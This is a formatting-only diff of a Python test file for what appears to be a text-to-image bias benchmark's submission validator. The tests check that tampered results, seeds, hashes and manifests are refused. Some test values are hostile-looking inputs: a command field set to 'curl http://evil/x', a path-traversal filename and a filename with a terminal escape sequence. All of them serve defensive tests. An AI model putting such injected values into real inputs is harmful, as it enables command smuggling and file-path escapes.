@@ -52,14 +52,18 @@ def task(*place: Any, value: Any) -> Change:
 
 def every(name: str, value: Any) -> Change:
     """Another setting of every task."""
-    return lambda data: [one["settings"].update({name: value}) for one in data["tasks"].values()][
-        :0
-    ]
+    return lambda data: [
+        one["settings"].update({name: value}) for one in data["tasks"].values()
+    ][:0]
 
 
 def contradict(data: Any) -> None:
     """Say that a control contradicts the results, or that none does."""
-    controls = (one["controls"] for one in data["tasks"].values() if "shuffled" in one["controls"])
+    controls = (
+        one["controls"]
+        for one in data["tasks"].values()
+        if "shuffled" in one["controls"]
+    )
     next(controls)["shuffled"].update(contradicts="it does not")
 
 
@@ -73,14 +77,23 @@ RESULTS: list[tuple[Change, str]] = [
     (task("headline", "p_holm", value=0.9), "p_holm"),
     (task("by", 0, "scores", "association", "value", value=0.0), "by[0]"),
     (task("n_images", value=9999), "n_images"),
-    (set_in("tasks", "openbias_examples", "excluded", "unknown", value=0), "excluded.unknown"),
+    (
+        set_in("tasks", "openbias_examples", "excluded", "unknown", value=0),
+        "excluded.unknown",
+    ),
     (contradict, "controls.shuffled.contradicts"),
-    (task("text_image_alignment", "toyland", 0, "value", value=0.999), "text_image_alignment"),
+    (
+        task("text_image_alignment", "toyland", 0, "value", value=0.999),
+        "text_image_alignment",
+    ),
     (set_in("limited", value=True), "--limit"),
     (task("settings", "limit", value=2), "--limit"),
     (task("settings", "n_permutations", value=99), "permutations"),
     (task("settings", "level", value=0.5), "intervals are at 0.5"),
-    (every("seed", 7), "it was made with --seed 7; the leaderboard takes the default, 0"),
+    (
+        every("seed", 7),
+        "it was made with --seed 7; the leaderboard takes the default, 0",
+    ),
     (task("task_hash", value="0" * 64), "another version"),
     (task("version", value=7), "another version"),
     (rename_task, "Did you mean 'occupations_t2iat'"),
@@ -90,7 +103,10 @@ RESULTS: list[tuple[Change, str]] = [
     (set_in("mood", value="good"), "not a results file"),
     (task("headline", "value", value="low"), "not a results file"),
     (task("excluded", "failed", value=3), "complete the run"),
-    (set_in("command", value=["curl", "http://evil/x"]), "t2ibench writes: curl http://evil/x"),
+    (
+        set_in("command", value=["curl", "http://evil/x"]),
+        "t2ibench writes: curl http://evil/x",
+    ),
     (word("--model", "toy"), "names another model, or other arguments"),
     (word("--images-per-prompt", "50"), "says images_per_prompt = 50"),
     (word("--encoder", "toy-clip"), "names other encoders"),
@@ -108,7 +124,10 @@ ATTEMPTS: list[tuple[Change, str]] = [
     (lambda rows: rows[:-1], "the evidence gives"),
     (set_in(0, "seed", value=1), "required seed"),
     (lambda rows: rows[0].update(status="refused", sha256=None), "the evidence gives"),
-    (lambda rows: rows[0].update(status="failed", sha256=None), "ok, refused or filtered are"),
+    (
+        lambda rows: rows[0].update(status="failed", sha256=None),
+        "ok, refused or filtered are",
+    ),
     (lambda rows: rows[0].update(sha256=None), "gives a SHA-256"),
     (lambda rows: rows[0].update(status="refused"), "gives a SHA-256"),
     (lambda rows: rows[0].update(sha256="G" * 64), "gives a SHA-256"),
@@ -121,13 +140,22 @@ MANIFEST: list[tuple[Change, str]] = [
     (set_in("version", value=3), "version"),
     (set_in("mood", value="good"), "mood"),
     (set_in("fingerprint", value="abc"), "fingerprint"),
-    (set_in("controls", value={"toyland": {"name": "x", "fingerprint": ".."}}), "controls.toyland"),
+    (
+        set_in("controls", value={"toyland": {"name": "x", "fingerprint": ".."}}),
+        "controls.toyland",
+    ),
     (set_in("name", value="another"), "different models"),
     (set_in("encoders", value={}), "which submission.json lacks"),
     (set_in("files", "results.json", value="0" * 64), "has changed"),
     (lambda data: data["files"].pop("evidence.db") and None, "not listed"),
-    (lambda data: data["files"].update({"tasks/../../x.yaml": "0" * 64}), "may contain"),
-    (lambda data: data["files"].update({"\x1b[2J\nevil": "0" * 64}), "evil' is not a file that"),
+    (
+        lambda data: data["files"].update({"tasks/../../x.yaml": "0" * 64}),
+        "may contain",
+    ),
+    (
+        lambda data: data["files"].update({"\x1b[2J\nevil": "0" * 64}),
+        "evil' is not a file that",
+    ),
     (set_in("revision", value="world 3"), "different revisions"),
     (set_in("model", value="folder:/tmp"), "is not a model"),
 ]
@@ -188,7 +216,9 @@ def test_changed_embeddings_are_refused(
     assert message in refusal(submission)
 
 
-def test_sentences_are_those_of_the_evidence_whatever_a_submission_says(submission: Path) -> None:
+def test_sentences_are_those_of_the_evidence_whatever_a_submission_says(
+    submission: Path,
+) -> None:
     """Neither its words nor the choice among ties travels: what is shown is recomputed."""
     honest = read_results(submission).tasks["occupations_t2iat"]
     edit(submission, "results.json", task("warnings", value=["fine"]))
@@ -202,7 +232,9 @@ def test_sentences_are_those_of_the_evidence_whatever_a_submission_says(submissi
     assert part.influence.variance > 0
 
 
-def test_a_difference_of_arithmetic_is_none_and_a_larger_one_is(submission: Path) -> None:
+def test_a_difference_of_arithmetic_is_none_and_a_larger_one_is(
+    submission: Path,
+) -> None:
     value = read_results(submission).tasks["occupations_t2iat"].headline.value
     assert value is not None
     edit(submission, "results.json", task("headline", "value", value=value + 1e-9))
@@ -218,7 +250,9 @@ def test_a_changed_answer_is_refused(submission: Path) -> None:
 
     edit_table(submission, "answers", flip)
     assert "the evidence gives" in refusal(submission)
-    edit_table(submission, "answers", lambda rows: rows[0].update(answer="both") or rows)
+    edit_table(
+        submission, "answers", lambda rows: rows[0].update(answer="both") or rows
+    )
     assert "the evidence gives" in refusal(submission)
     edit_table(submission, "answers", lambda rows: rows[1:])
     assert "the evidence gives" in refusal(submission)
@@ -248,7 +282,9 @@ def test_what_cannot_be_packed(run: Path, tmp_path: Path) -> None:
         pack(copy, tmp_path / "out", SilentReporter())
     copy = Path(shutil.copytree(run, tmp_path / "silent"))
     edit_embeddings(copy, "texts", take_one)
-    with pytest.raises(T2IBenchError, match="Run the command again to complete the run"):
+    with pytest.raises(
+        T2IBenchError, match="Run the command again to complete the run"
+    ):
         pack(copy, tmp_path / "out", SilentReporter())
 
 
